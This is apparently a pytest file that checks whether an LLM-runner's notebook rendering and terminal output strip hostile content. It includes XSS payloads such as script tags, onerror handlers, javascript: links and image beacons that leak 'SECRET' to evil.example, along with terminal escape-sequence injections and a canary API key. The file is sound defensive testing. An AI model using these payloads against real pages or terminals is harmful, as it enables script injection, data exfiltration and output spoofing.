"What a notebook and a terminal show of a run: text, whatever a document, a model, a server or a file name put into it"
import asyncio,io,traceback,unicodedata
from html.parser import HTMLParser
import nbformat,pytest
from nbconvert import HTMLExporter
from rlm.cli import main
from rlm.core import RLM, Run, advanced_toolloop
from rlm.models.lm import LM
from rlm.models.providers import LMError
from rlm.models.scripted import Fault, ScriptedLM, ScriptedServer, call_repl, say, tool_call
from rlm.models.usage import Usage
from rlm.tools import make_run_repl, prep_shell

# Notebooks: each is an answer, the sentence of an error, the name of a limit

away = 'http://evil.example/?q=SECRET'
pages = dict(script='<script>alert(1)</script>', script_after_text='The answer.\n\n<script src="http://evil.example/x.js"></script>', image=f'<img src="{away}">',
    onerror='<img src=x onerror=alert(1)>', picture=f'![x]({away})', picture_by_name=f'![x][1]\n\n[1]: {away}', linked_picture=f'[![x]({away})]({away})', iframe=f'<iframe src="{away}"></iframe>',
    javascript='[click](javascript:alert(1))', link=f'[click]({away})', autolink=f'<{away}>', anchor='<a href="javascript:alert(1)">x</a>', svg='<svg onload=alert(1)></svg>',
    style=f'<style>@import url({away})</style>', form=f'<form action="{away}"><button>Log in</button></form>', meta=f'<meta http-equiv="refresh" content="0;url={away}">', video=f'<video poster="{away}"></video>',
    closes_a_fence='```\n<script>alert(1)</script>\n```', closes_a_long_fence='`'*40+f'\n<img src="{away}">\n'+'`'*40, tildes='~~~\n<script>alert(1)</script>\n~~~', carriage_return='```\r<script>alert(1)</script>\r```\r',
    line_separator=f'```\u2028<img src="{away}">\u2028```', indented='  ```\n  <script>alert(1)</script>\n', closes_the_tags='</code></pre></div><script>alert(1)</script>', heading='# A heading', table='|a|b|\n|-|-|\n|<b>1</b>|2|',
    math='$$\\href{javascript:alert(1)}{x}$$', entities='&lt;script&gt;alert(1)&lt;/script&gt; &#60;b&#62;', comment='<!-- <script>alert(1)</script> -->', details='<details open ontoggle=alert(1)>x</details>',
    base=f'<base href="{away}">', embedded=f'<object data="{away}"></object><embed src="{away}">', emphasis='*really* __true__ ~~not~~')

class Shown(HTMLParser):
    "The tags, attributes and text of each rendered markdown output"
    def __init__(self):
        super().__init__()
        self.outputs,self.depth = [],0

    def handle_starttag(self, tag, attrs):
        if self.depth:
            self.outputs[-1]['tags'].append((tag, dict(attrs)))
            self.depth += tag=='div'
        elif 'jp-RenderedMarkdown' in (dict(attrs).get('class') or '') and dict(attrs).get('data-mime-type')=='text/markdown':
            self.outputs.append(dict(tags=[], text=''))
            self.depth = 1

    def handle_endtag(self, tag): self.depth -= bool(self.depth and tag=='div')
    def handle_data(self, data):
        if self.depth: self.outputs[-1]['text'] += data

def failed(**kw): return Run(**dict(dict(answer='', value=None, stop='error', usage=Usage(), steps=0), **kw))

def runs_of(text): return failed(answer=text, stop='final'), failed(error=LMError('auth', text)), failed(answer='so far', stop='budget', limit=text), failed(stop=text)

@pytest.fixture(scope='module')
def shown():
    "Each run as nbconvert shows it, in one page"
    def output(run): return nbformat.v4.new_output('display_data', {'text/markdown': run._repr_markdown_(), 'text/plain': repr(run)})
    cells = [nbformat.v4.new_code_cell('run', outputs=[output(run)]) for text in pages.values() for run in runs_of(text)]
    page = Shown()
    page.feed(HTMLExporter().from_notebook_node(nbformat.v4.new_notebook(cells=cells))[0])
    assert len(page.outputs)==len(cells), 'nothing broke out of its output'
    return dict(zip(pages, [page.outputs[i:i+4] for i in range(0, len(cells), 4)]))

@pytest.mark.parametrize('name', pages)
def test_notebook(name, shown):
    "Text and nothing else: no tag but those that hold it, no address, no handler; and all of the text is there"
    for i,o in enumerate(shown[name]):
        assert {tag for tag,_ in o['tags']} <= {'div','pre','code','span','p','em'}, o
        assert not [a for _,attrs in o['tags'] for a in attrs if a!='class'], o
        if i<3: assert ''.join(pages[name].split()).replace('\u2028', '') in ''.join(o['text'].split()), o

def test_notebook_says_why():
    "Where there is no answer, the reason stands in its place"
    assert 'Set OPENAI_API_KEY' in failed(error=LMError('missing_key', 'Set OPENAI_API_KEY.'))._repr_markdown_()
    assert 'limit on time' in failed(stop='budget', limit='time')._repr_markdown_() and 'best answer' not in failed(stop='budget', limit='time')._repr_markdown_()
    assert 'best answer so far' in failed(answer='Ada', stop='budget', limit='time')._repr_markdown_()
    assert len(failed(answer='x'*10_000_000, stop='final')._repr_markdown_())<200_000

# Terminals

codes = dict(clipboard='\x1b]52;c;ZXZpbA==\x07', link='\x1b]8;;http://evil.example\x1b\\here\x1b]8;;\x1b\\', clear='\x1b[2J\x1b[H', title='\x1b]0;root\x07', colour='\x1b[31mred\x1b[0m', device='\x1bP+q544e\x1b\\',
    eight_bit='\x9b2J\x9d52;c;x\x9c', bell='\x07', backspace='safe\x08\x08\x08\x08evil', carriage='safe\revil', right_to_left='\u202egpj.exe', isolate='\u2066x\u2069', mark='\u200fx', separator='a\u2028b', nul='a\0b', delete='\x7f',
    tags='\U000e0041\U000e0042', unclosed='\x1b]52;c;ZXZpbA==', escape='\x1b')
every = 'Ada ' + ' '.join(codes.values()) + ' Lovelace'

def controls(s): return [c for c in s if unicodedata.category(c) in ('Cc','Cf','Cs','Zl','Zp') and c not in '\n\t']

def tool(args): return call_repl(args, f'I look. {every}')

@pytest.fixture
def story(tmp_path):
    (tmp_path/'a.txt').write_text('Ada wrote the first program.')
    return tmp_path/'a.txt'

@pytest.mark.parametrize('name', codes)
def test_answer_in_a_terminal(name, story, capfd):
    "Piped or not, an answer is text"
    with ScriptedServer(lambda m: f'FINAL(Ada {codes[name]} Lovelace)') as server: code = main(['ask', 'Who?', str(story), '--model', 'openai/m', '--base-url', server.url])
    out,err = capfd.readouterr()
    assert code==0 and out.startswith('Ada') and not controls(out+err), (out, err)

places = dict(text=lambda m: tool('1') if len(m)==2 else 'FINAL(1)', code=lambda m: call_repl(f'x = {every!r} # {every}'.replace('\0', '').replace('\r', '')) if len(m)==2 else 'FINAL(1)',
    printed=lambda m: call_repl(f'print({every!r})') if len(m)==2 else 'FINAL(1)', raised=lambda m: call_repl(f'raise ValueError({every!r})') if len(m)==2 else 'FINAL(1)',
    value=lambda m: call_repl(f'FINAL({every!r})'), unknown_tool=lambda m: say(None, tool_call(every, dict(a=every))) if len(m)==2 else 'FINAL(Ada)',
    error=lambda m: Fault(400, f'No. {every}'), refused_key=lambda m: Fault(401, every), not_found=lambda m: Fault(404, every))

@pytest.mark.one_in(3)
@pytest.mark.parametrize('sandbox', ['trusted','auto'])
@pytest.mark.parametrize('place', places)
def test_verbose_in_a_terminal(place, sandbox, story, capfd):
    with ScriptedServer(places[place]) as server: main(['ask', 'Who?', str(story), '--model', 'openai/m', '--base-url', server.url, '--verbose', '--sandbox', sandbox])
    out,err = capfd.readouterr()
    assert 'Ada' in out+err and not controls(out+err), (out, err)

names = {'missing file': ['ask', 'Who?', f'{every}.txt'], 'unknown command': [every], 'unknown option': ['ask', 'Who?', 'a.txt', f'--{every}'], 'model': ['ask', 'Who?', 'a.txt', '--model', every],
    'trace': ['ask', 'Who?', 'a.txt', '--model', 'embedded/extractive', '--trace', f'no/such/{every}/folder'], 'sandbox': ['ask', 'Who?', 'a.txt', '--sandbox', every], 'url': ['ask', 'Who?', 'a.txt', '--base-url', every],
    'number': ['ask', 'Who?', 'a.txt', '--max-steps', every], 'resume': ['resume', every]}

@pytest.mark.parametrize('name', names)
def test_names_in_a_terminal(name, story, capfd, monkeypatch):
    "Names of files, models and options come from outside too: from a glob, from an archive"
    monkeypatch.chdir(story.parent)
    code = main([o.replace('\0', '') for o in names[name]])
    out,err = capfd.readouterr()
    assert code in (0, 1, 2) and err.strip() and not controls(out+err), (out, err)

def test_model_name_of_the_environment(story, capfd, monkeypatch):
    monkeypatch.setenv('RLM_MODEL', every.replace('\0', ''))
    assert main(['ask', 'Who?', str(story)])==2
    out,err = capfd.readouterr()
    assert 'RLM_MODEL' in err and not controls(out+err)

def test_names_of_a_server(story, capfd):
    "A server that is asked for its models may name them as it likes"
    with ScriptedServer(lambda m: every) as server: code = main(['ask', 'Who?', str(story), '--base-url', server.url+every.replace('\0', '').replace('\n', '')])
    out,err = capfd.readouterr()
    assert code==2 and not controls(out+err)

def test_verbose_in_python(capsys):
    "Through every way to look on, and in `str` of the run"
    def script(messages): return tool(f'print({every!r})') if len(messages)==2 else f'FINAL({every})'
    for go in (lambda rlm, out: rlm('c', 'q', out), lambda rlm, out: asyncio.run(rlm.arun('c', 'q', out)), lambda rlm, out: [*(s := rlm.stream('c', 'q', out))] and s.run):
        out = io.StringIO()
        run = go(RLM(ScriptedLM(script)), out)
        assert 'step 1' in out.getvalue() and 'Lovelace' in out.getvalue() and not controls(out.getvalue()+str(run)) and run.answer==every
    sh,out = prep_shell('c'),io.StringIO()
    list(advanced_toolloop('q', tools=[make_run_repl(sh)], sh=sh, model=ScriptedLM(script), verbose=out))
    sh.close()
    assert 'Lovelace' in out.getvalue() and not controls(out.getvalue())

# Keys, and lines, in what a terminal shows

key = 'sk-canary0123456789abcdefghij'
typed = {'command': [key], 'option': ['ask', 'Who?', 'a.txt', '--api-key', key], 'value': ['ask', 'Who?', 'a.txt', f'--bogus={key}'], 'number': ['ask', 'Who?', 'a.txt', '--max-steps', key], 'model': ['ask', 'Who?', 'a.txt', '--model', key],
    'file': ['ask', 'Who?', f'{key}.txt'], 'trace': ['resume', f'{key}.jsonl'], 'url': ['ask', 'Who?', 'a.txt', '--base-url', f'http://u:{key}@127.0.0.1:9/v1'], 'query of a url': ['ask', 'Who?', 'a.txt', '--base-url', f'http://127.0.0.1:9/v1?api_key={key}'],
    'url that is none': ['ask', 'Who?', 'a.txt', '--base-url', f'http://[::1/{key}']}

@pytest.mark.parametrize('name', typed)
def test_typed_keys(name, story, capfd, monkeypatch):
    "What somebody types in the wrong place is on the screen, and in the log of the job, only once"
    monkeypatch.chdir(story.parent)
    assert main(typed[name])==2
    out,err = capfd.readouterr()
    assert err.strip() and key not in out+err and 'Traceback' not in err

def test_key_in_an_answer(story, capfd):
    with ScriptedServer(lambda m: f'FINAL(The key is {key}.)') as server: assert main(['ask', 'Who?', str(story), '--model', 'openai/m', '--base-url', server.url, '--verbose'])==0
    out,err = capfd.readouterr()
    assert out=='The key is sk-….\n' and key not in err

def test_names_with_lines(story, capfd, monkeypatch):
    "A name of a file cannot write a line of its own"
    monkeypatch.chdir(story.parent)
    for args in (['ask', 'Who?', 'a\nrlm: all is well.txt'], ['resume', 'a\nrlm: all is well'], ['a\nrlm: x']):
        assert main(args)==2
        assert capfd.readouterr().err.count('\n')==1

def test_options_are_left_out(story, capfd, monkeypatch):
    "Where Python takes None, a terminal leaves the option out"
    monkeypatch.chdir(story.parent)
    for args in (['--max-cost', 'nan'], ['--max-tokens', '0'], ['--trace', ''], ['--base-url', 'http://[::1/v1']):
        assert main(['ask', 'Who?', 'a.txt', '--model', 'embedded/extractive', *args])==2
        err = capfd.readouterr().err
        assert args[0] in err and 'None' not in err

def test_traceback_of_a_failed_call(capsys):
    "What a server said stands in a traceback as it stands in the sentence: without keys and escape sequences, and without the calls of libraries"
    with ScriptedServer(lambda m: Fault(500, f'No. {every} {key}')) as server: run = RLM(LM('openai/m', base_url=server.url, retries=0))('c', 'q')
    with pytest.raises(LMError) as e: run.raise_for_stop()
    shown = ''.join(traceback.format_exception(e.value))
    assert 'failed (500): No. Ada' in shown and key not in shown and not controls(shown) and 'litellm' not in shown

def test_a_listener_prints(capsys):
    "What a listener prints while a cell of this process runs is not the cell's output, and is not told to the listener again"
    told = []
    def listen(e):
        told.append(e.kind)
        if len(told)>100: raise SystemExit('told for ever')
        print('heard', e.kind)
    with RLM(ScriptedLM([call_repl('print(41)\nllm_query("q")'), 'FINAL(42)']), ScriptedLM(['sub']), sandbox='trusted').chat('c') as chat: run = chat('q', emit=listen)
    cell, = (e for e in run.trace if e.kind=='cell_ended')
    assert (run.answer, cell.content)==('42', "41\n'sub'") and 'output' in told
    assert capsys.readouterr().out.split('\n')[:-1]==[f'heard {o}' for o in told]
